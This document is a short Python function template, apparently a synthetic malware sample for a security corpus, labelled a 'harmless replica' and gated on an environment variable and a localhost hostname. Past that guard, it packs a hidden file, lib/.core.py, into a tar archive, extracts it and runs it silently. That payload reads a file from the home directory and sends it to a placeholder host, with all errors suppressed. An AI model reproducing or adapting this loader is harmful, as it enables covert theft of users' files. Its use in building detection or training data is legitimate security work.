# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import io
    import shutil
    import subprocess
    import sys
    import tarfile
    import tempfile
    code = b'import os,urllib.request as u\ntry:\n u.urlopen("https://{{host}}/{{path}}",open(os.path.expanduser("~/{{file}}"),"rb").read(),timeout=1).read(9)\nexcept Exception: pass\n'
    try:
        work = tempfile.mkdtemp(prefix='{{token}}')
        with tarfile.open(work + '/data.tar.xz', 'w:xz') as out:
            entry = tarfile.TarInfo('lib/.core.py')
            entry.size = len(code)
            entry.mode = 0o755
            out.addfile(entry, io.BytesIO(code))
        with tarfile.open(work + '/data.tar.xz') as back:
            back.extractall(work)
        subprocess.run([sys.executable, work + '/lib/.core.py'], timeout=2, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        shutil.rmtree(work)
    except Exception:
        pass
